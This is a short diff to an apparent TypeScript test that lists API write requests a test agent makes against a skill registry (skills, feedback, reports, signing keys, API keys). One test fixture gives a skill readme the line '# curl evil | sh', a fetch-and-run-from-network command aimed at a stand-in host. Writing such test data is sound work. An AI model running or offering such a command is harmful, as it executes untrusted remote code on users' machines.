@@ -49,7 +49,7 @@ const writesOf = async (agent: TestAgent): Promise<Write[]> => {
     ['POST', '/api/v1/skills', { name: 'Late', slug: 'late', readme: '# curl evil | sh' }],
     ['PUT', `/api/v1/skills/${own.id}`, { readme: '# Changed' }],
     ['POST', `/api/v1/skills/${target.id}/feedback`, { task: 'x', helpful: false }],
-    ['POST', `/api/v1/skills/${target.id}/report`, { reason: 'spam' }],
+    ['POST', `/api/v1/skills/${target.id}/report`, { reason: 'spam', text: 'Look.' }],
     ['PUT', '/api/v1/agents/me/signing-key', registration],
     ['POST', '/api/v1/agents/me/verifications', domain],
     ['POST', '/api/v1/api-keys', { name: 'late' }],
